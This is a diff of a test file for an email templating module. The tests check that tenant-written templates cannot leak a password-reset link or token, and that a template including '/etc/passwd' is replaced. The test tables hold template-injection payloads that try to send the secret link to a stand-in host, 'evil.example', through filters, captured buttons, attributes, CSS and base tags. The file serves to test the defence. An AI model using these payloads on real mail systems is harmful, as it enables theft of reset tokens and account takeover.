@@ -1,8 +1,17 @@
 import { describe, expect, it } from 'vitest';
 import { shownEntries } from '../../../shared/modules/email/channel/digest.ts';
 import { renderWithDefault } from '../../../shared/modules/email/channel/notification-text.ts';
-import { renderMail, renderText } from '../../../shared/modules/email/texts/render.ts';
-import { digestTemplate, notificationTemplate } from '../../../shared/modules/email/texts/texts.ts';
+import {
+  renderMail,
+  renderText,
+  TemplateError,
+  toMailText,
+} from '../../../shared/modules/email/texts/render.ts';
+import {
+  digestMail,
+  notificationTemplate,
+  passwordResetMail,
+} from '../../../shared/modules/email/texts/texts.ts';
 import { silenceLog } from '../../support/runtime/quiet-log.ts';
 
 silenceLog();
@@ -88,9 +97,10 @@ describe('a mail', () => {
       { title: 'Two', body: 'More', link: '' },
     ];
     const { subject, text } = await renderMail(
-      digestTemplate,
+      digestMail.template,
       { ...variables, items, count: 3, more: 1 },
       footer,
+      'email.digest.due',
     );
     expect(subject).toBe('3 notifications');
     expect(text).toContain('One\n\nTwo\nMore\n\nAnd 1 more in your inbox.');
@@ -105,7 +115,7 @@ describe('a digest', () => {
   const digestOf = (entries: ReturnType<typeof entryWith>[]) => {
     const items = shownEntries(entries);
     const more = entries.length - items.length;
-    return renderText(digestTemplate, { ...variables, items, count: entries.length, more });
+    return renderText(digestMail.template, { ...variables, items, count: entries.length, more });
   };
 
   it('contains as many long notifications as fit into a mail, and counts the others', async () => {
@@ -149,5 +159,87 @@ describe('a template of a tenant', () => {
     ['includes files', { subject: 'x', body: "{% include '/etc/passwd' %}" }],
   ])('that %s is replaced by the default text', async (_, own) => {
     expect(await rendered(own)).toEqual(await renderText(notificationTemplate, variables));
+  });
+});
+
+describe('the secret link of a mail', () => {
+  const type = 'email.password.reset';
+  const url = 'https://api.example.com/api/auth/password/reset?token=secret';
+  const values = { ...variables, link: '', validFor: '30 minutes' };
+  const mailWith = async (body: string, subject = 'x') => {
+    const rendered = await renderText({ subject, body }, values, type);
+    return toMailText(rendered, { tenantName: 'Example Ltd', link: { url, label: 'Choose' } });
+  };
+
+  it('is a button where the template places it, with the template’s label and color', async () => {
+    const { text, html } = await mailWith('Dear reader,\n{% button "Go & set it", color: "#102030" %}\nBye');
+    expect(text).toBe(`Dear reader,\n\nGo & set it:\n${url}\n\nBye\n\n-- \nExample Ltd\n`);
+    expect(html).toContain(`<a href="${url}" style="display:inline-block`);
+    expect(html).toContain('background:#102030');
+    expect(html).toContain('Go &amp; set it</a>');
+    expect(html).not.toContain('button-');
+  });
+
+  it('follows the text of a template without a button', async () => {
+    const { text, html } = await mailWith('Dear reader');
+    expect(text).toBe(`Dear reader\n\nChoose:\n${url}\n\n-- \nExample Ltd\n`);
+    expect(html).toContain(`<a href="${url}"`);
+  });
+
+  it('is in the default text once', async () => {
+    const { template } = passwordResetMail;
+    const { text, html } = await mailWith(template.body, template.subject);
+    expect([text.split(url).length, html.split(`href="${url}"`).length]).toEqual([2, 2]);
+  });
+
+  const button = '{% button "Go" %}';
+  const evil = 'https://evil.example/?x=';
+  const captured = `{% capture l %}${button}{% endcapture %}`;
+  it.each([
+    ['a variable', '{{ link }}'],
+    ['a variable in a branch that is not taken', '{% if severity == "critical" %}{{ link }}{% endif %}'],
+    ['a variable by another name', '{% assign l = link %}{{ l }}'],
+    ['a variable by brackets', '{{ ["link"] }}'],
+    ['a token variable', '{{ token }}'],
+    ['a filter', `${evil}{{ link | url_encode }}`],
+    ['a condition', '{% if link contains "a" %}a{% endif %}x'],
+    ['a loop', '{% for c in link %}{{ c }}{% endfor %}x'],
+    ['a captured button', `${captured}${evil}{{ l | url_encode }}`],
+    [
+      'a captured button that is split',
+      `${captured}{% for c in l %}{{ c }}{% endfor %}{{ l | slice: 0, 3 }}`,
+    ],
+    ['a captured button that is replaced', `${captured}{{ l | replace: "-", "+" }}`],
+    ['a captured button that is dropped', `${captured}x`],
+    ['a button in an address', `${evil}${button}`],
+    ['a button glued to an address', `${evil}\n{%- button "Go" %}`],
+    ['a button before a text', `${button}.evil.example`],
+    ['a button in an attribute', `<a href="${evil}${button}">`],
+    ['a button in a style', `<style>a{background:url(${evil}${button})}</style>`],
+    ['a button in a comment', `<!-- ${button} -->`],
+    ['several buttons', `${button}\n\n${button}`],
+    ['a button with a computed label', '{% button link %}'],
+    [
+      'a button with markup in its color',
+      '{% button "x", color: "red;background:url(https://evil.example)" %}',
+    ],
+    ['another template', '{% render "reset" %}'],
+  ])('is not read by %s', async (_, body) => {
+    await expect(mailWith(body)).rejects.toThrow(TemplateError);
+    const own = { subject: 'x', body };
+    const about = { tenantId: 'tenant', type };
+    const { template } = passwordResetMail;
+    const { subject } = await renderWithDefault({ own, default: template }, values, about);
+    expect(subject).toBe(template.subject);
+  });
+
+  it.each([['{{ link }}'], [button], ['{{ token }}']])('is not part of a subject: %s', async (subject) => {
+    await expect(mailWith('x', subject)).rejects.toThrow(TemplateError);
+  });
+
+  it('stays in a paragraph of its own between texts of a template', async () => {
+    const { text, html } = await mailWith(`<a href="${evil}\n${button}\n">\n<base href="${evil}">`);
+    expect(text).toContain(`${evil}\n\nGo:\n${url}\n\n">`);
+    expect([...html.matchAll(/href="([^"]*)"/g)].map(([, href]) => href)).toEqual([evil, url, evil]);
   });
 });
